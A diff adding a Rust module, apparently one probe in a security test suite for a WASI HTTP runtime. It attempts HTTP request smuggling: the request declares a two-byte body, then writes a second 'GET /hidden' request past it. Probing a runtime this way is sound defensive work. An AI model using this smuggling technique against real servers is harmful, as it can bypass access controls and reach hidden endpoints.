@@ -1,0 +1,21 @@
+//! A second request behind the length that the first one says of its body.
+
+use attack_kit::Tried;
+use attack_kit::http::{Attempt, body, head};
+use attack_kit::wasip2::http::outgoing_handler;
+use attack_kit::wasip2::http::types::{Method, OutgoingBody};
+
+pub fn attack(target: &str) -> Tried {
+    let attempt = Attempt { method: Method::Post, ..Attempt::get(target) };
+    attempt.fields.append("content-length", b"2").map_err(attack_kit::name)?;
+    let (request, options) = attempt.request()?;
+    let outgoing = request.body().expect("a body");
+    let future = outgoing_handler::handle(request, Some(options)).map_err(attack_kit::name)?;
+    let stream = outgoing.write().expect("a stream");
+    let smuggled = b"hiGET /hidden HTTP/1.1\r\nhost: hidden\r\n\r\n";
+    let written = stream.blocking_write_and_flush(smuggled);
+    drop(stream);
+    written.map_err(attack_kit::name)?;
+    OutgoingBody::finish(outgoing, None).map_err(attack_kit::name)?;
+    body(&head(&future)?)
+}
